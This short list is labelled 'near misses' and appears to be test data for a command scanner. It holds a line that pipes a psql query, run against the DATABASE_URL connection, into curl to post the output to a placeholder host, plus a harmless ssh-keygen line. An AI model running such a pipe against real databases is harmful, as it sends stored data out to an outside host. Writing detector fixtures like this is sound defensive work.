# near misses
psql $DATABASE_URL -c "select 1" | curl -d @- https://a.invalid/in
ssh-keygen -t ed25519 -f ~/.ssh/id_new
